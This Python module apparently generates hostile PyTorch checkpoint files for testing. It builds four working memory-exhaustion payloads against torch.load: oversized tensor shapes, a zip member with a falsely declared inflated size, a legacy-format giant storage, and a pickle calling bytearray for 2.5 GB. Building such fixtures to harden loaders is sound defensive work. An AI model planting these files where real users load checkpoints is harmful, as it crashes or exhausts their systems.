"""Hostile PyTorch checkpoints, written byte by byte (no torch.save: it refuses to lie).

- ``resize_bomb``: a small storage and a tensor whose declared shape is far larger;
  ``torch.load`` grows the storage to fit the shape (gigabytes from a tiny file).
- ``inflate_bomb``: a valid zip whose tensor member is deflated and declares a
  uncompressed size of gigabytes (the reader allocates that size before inflating).
- ``legacy_bomb``: the pre-1.6 (non-zip) format declaring a storage of a billion floats;
  torch allocates it before reading the data.
- ``bytearray_bomb``: a 300-byte pickle that calls ``bytearray(2_500_000_000)``, a global
  ``torch.load(weights_only=True)`` allows: 2.5 GB of zeros, written.
"""

from __future__ import annotations

import collections
import io
import pickle
import struct
import sys
import zlib
from pathlib import Path

BILLION_FLOATS = 1_200_000_000  # 4.8 GB as float32


class _Storage:
    def __init__(self, key: str, numel: int, type_name: str = "FloatStorage") -> None:
        self.key, self.numel, self.type_name = key, numel, type_name


class _Tensor:
    def __init__(self, storage: _Storage, shape: tuple[int, ...], stride: tuple[int, ...] | None = None) -> None:
        self.storage, self.shape = storage, shape
        if stride is None:
            stride, step = [], 1
            for side in reversed(shape):
                stride.insert(0, step)
                step *= side
        self.stride = tuple(stride)

    def __reduce__(self):
        import torch

        return (torch._utils._rebuild_tensor_v2, (self.storage, 0, self.shape, self.stride, False, collections.OrderedDict()))


def _pickle(obj, legacy: bool) -> bytes:
    import torch

    class Pickler(pickle.Pickler):
        def persistent_id(self, item):
            if isinstance(item, _Storage):
                pid = ("storage", getattr(torch, item.type_name), item.key, "cpu", item.numel)
                return pid + (None,) if legacy else pid
            return None

    buffer = io.BytesIO()
    Pickler(buffer, protocol=2).dump(obj)
    return buffer.getvalue()


def _zip(members: list[tuple[str, bytes, int, int]]) -> bytes:
    """A zip of (name, stored bytes, method 0/8, declared uncompressed size): the sizes in
    the headers are whatever the caller says."""
    out, central = io.BytesIO(), io.BytesIO()
    for name, data, method, declared in members:
        raw_name = name.encode()
        crc = zlib.crc32(data) if method == 0 else 0
        offset = out.tell()
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, method, 0, 0, crc, len(data), declared, len(raw_name), 0))
        out.write(raw_name)
        out.write(data)
        central.write(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, method, 0, 0, crc, len(data), declared,
                                  len(raw_name), 0, 0, 0, 0, 0, offset))
        central.write(raw_name)
    start = out.tell()
    directory = central.getvalue()
    out.write(directory)
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(directory), start, 0))
    return out.getvalue()


def _torch_zip(obj, storages: dict[str, bytes], extra: list[tuple[str, bytes, int, int]] = ()) -> bytes:
    members = [("archive/data.pkl", _pickle(obj, legacy=False), 0, 0),
               ("archive/byteorder", b"little", 0, 0),
               ("archive/version", b"3\n", 0, 0)]
    members = [(n, d, m, len(d)) for n, d, m, _ in members]
    members += [(f"archive/data/{key}", data, 0, len(data)) for key, data in storages.items()]
    return _zip(members + list(extra))


def resize_bomb(path: Path, key: str = "weight") -> Path:
    """A 4 float storage, a tensor declaring 1.2 billion floats."""
    storage = _Storage("0", 4)
    path.write_bytes(_torch_zip({key: _Tensor(storage, (BILLION_FLOATS,))}, {"0": b"\0" * 16}))
    return path


def inflate_bomb(path: Path, key: str = "weight", declared: int = 3_000_000_000) -> Path:
    """A tensor member deflated from 32 MB of zeros whose header declares ``declared`` bytes."""
    storage = _Storage("0", declared // 4)
    squeeze = zlib.compressobj(9, zlib.DEFLATED, -15)
    deflated = squeeze.compress(bytes(32 << 20)) + squeeze.flush()
    members = [("archive/data.pkl", _pickle({key: _Tensor(storage, (declared // 4,))}, legacy=False), 0, 0),
               ("archive/byteorder", b"little", 0, 0), ("archive/version", b"3\n", 0, 0)]
    members = [(n, d, m, len(d)) for n, d, m, _ in members] + [("archive/data/0", deflated, 8, declared)]
    path.write_bytes(_zip(members))
    return path


def legacy_bomb(path: Path, key: str = "weight") -> Path:
    """The non-zip format: a storage declaring 1.2 billion floats, 16 bytes of data."""
    storage = _Storage("0", BILLION_FLOATS)
    buffer = io.BytesIO()
    for header in (0x1950A86A20F9469CFC6C, 1001, {"protocol_version": 1001, "little_endian": sys.byteorder == "little",
                                                   "type_sizes": {"short": 2, "int": 4, "long": 4}}):
        pickle.dump(header, buffer, protocol=2)
    buffer.write(_pickle({key: _Tensor(storage, (4,))}, legacy=True))
    pickle.dump(["0"], buffer, protocol=2)
    buffer.write(struct.pack("<q", BILLION_FLOATS) + b"\0" * 16)
    path.write_bytes(buffer.getvalue())
    return path


class _Call:
    def __init__(self, function, *args) -> None:
        self.function, self.args = function, args

    def __reduce__(self):
        return (self.function, self.args)


def bytearray_bomb(path: Path, key: str = "weight", nbytes: int = 2_500_000_000) -> Path:
    """A checkpoint whose only entry is ``bytearray(nbytes)``."""
    data = _pickle({key: _Call(bytearray, nbytes)}, legacy=False)
    path.write_bytes(_zip([(n, d, 0, len(d)) for n, d in
                           (("archive/data.pkl", data), ("archive/byteorder", b"little"), ("archive/version", b"3\n"))]))
    return path


BOMBS = {"bytearray": bytearray_bomb, "resize": resize_bomb, "inflate": inflate_bomb, "legacy": legacy_bomb}
